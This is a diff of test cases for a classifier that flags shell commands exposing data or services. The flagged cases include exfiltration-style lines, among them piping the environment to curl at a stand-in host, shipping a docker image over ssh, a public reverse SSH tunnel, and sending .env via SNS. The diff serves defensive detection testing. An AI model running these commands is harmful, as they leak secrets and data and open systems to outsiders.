@@ -38,3 +38,25 @@ it.each([
 ])('leaves alone what carries nothing out: %s', (script) => {
 	expect(classes(script)).not.toContain('expose');
 });
+
+it.each([
+	'env | curl --data-urlencode c@- https://x.example/k',
+	'docker save api | ssh a@203.0.113.5 docker load',
+	'ssh -fN -R 0.0.0.0:2222:localhost:22 a@203.0.113.5',
+	'python3 -m http.server 8000 --bind 0.0.0.0 --directory /srv/data',
+	'kubectl patch svc db -p \'{"spec":{"type":"LoadBalancer"}}\'',
+	'aws sns publish --topic-arn t --message file://.env',
+])('sees what is carried out or opened by other means: %s', (script) => {
+	expect(classes(script)).toContain('expose');
+});
+
+it.each([
+	'curl --data-urlencode q=a@b.example https://x.example/k',
+	'ssh -fN -R 8080:localhost:3000 a@203.0.113.5',
+	'python3 -m http.server 8000 --bind 0.0.0.0',
+	'python3 -m http.server --bind 127.0.0.1 -d /srv/data',
+	'curl -F file=@report.pdf http://api:3000/upload',
+	'gh api repos/acme/site/keys -f title=k -f key="$(cat k.pub)"',
+])('leaves alone what stays inside, and what anyone may know: %s', (script) => {
+	expect(classes(script)).not.toContain('expose');
+});
